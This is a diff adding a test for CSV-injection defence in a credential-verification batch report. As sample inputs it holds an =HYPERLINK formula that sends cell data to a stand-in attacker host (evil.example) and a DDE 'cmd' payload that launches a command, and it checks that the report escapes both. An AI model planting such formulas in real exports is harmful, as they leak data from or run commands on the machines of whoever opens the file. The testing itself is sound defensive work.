@@ -356,3 +356,36 @@ def test_pending_is_exit_3_and_counted_apart_in_verify_batch(
         tampered["credentialSubject"]["name"] = "Someone Else"
         (folder / "bad.json").write_text(json.dumps(tampered))
         assert _batch(trust, str(folder)).exit_code == 1
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+
+
+def test_verify_batch_csv_report_runs_no_formula(
+    local_world: World, trust_file: Path, tmp_path: Path
+) -> None:
+    """CSV injection: a genuine credential whose holder and achievement names are spreadsheet
+    formulas, in a ZIP entry named like one, is reported with every such cell as text."""
+    school = local_world.institution("Formula School")
+    (credential,) = local_world.issue(school, holder=FORMULA)
+    credential["credentialSubject"]["achievement"]["name"] = "+1+cmd|' /C calc'!A0"
+    (signed,) = local_world.issue_anchored(school, holder=FORMULA)
+    bundle = tmp_path / "in.zip"
+    with zipfile.ZipFile(bundle, "w") as archive:
+        archive.writestr("=1+1.json", json.dumps(signed))
+        archive.writestr("-forged.json", json.dumps(credential))
+    report = tmp_path / "report.csv"
+    result = _batch(trust_file, "--workers", "1", "--report", str(report), str(bundle))
+    assert result.exit_code == 1, result.output
+    with report.open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["status"] for r in rows] == ["VALID", "INVALID"]
+    assert rows[0]["holder_name"] == "'" + FORMULA
+    assert rows[1]["achievement"] == "'+1+cmd|' /C calc'!A0"
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@")), row
+    # The JSON report keeps the names as they are: JSON is not run by spreadsheets.
+    as_json = tmp_path / "report.json"
+    _batch(trust_file, "--workers", "1", "--report", str(as_json), str(bundle))
+    assert json.loads(as_json.read_text())[0]["holder_name"] == FORMULA
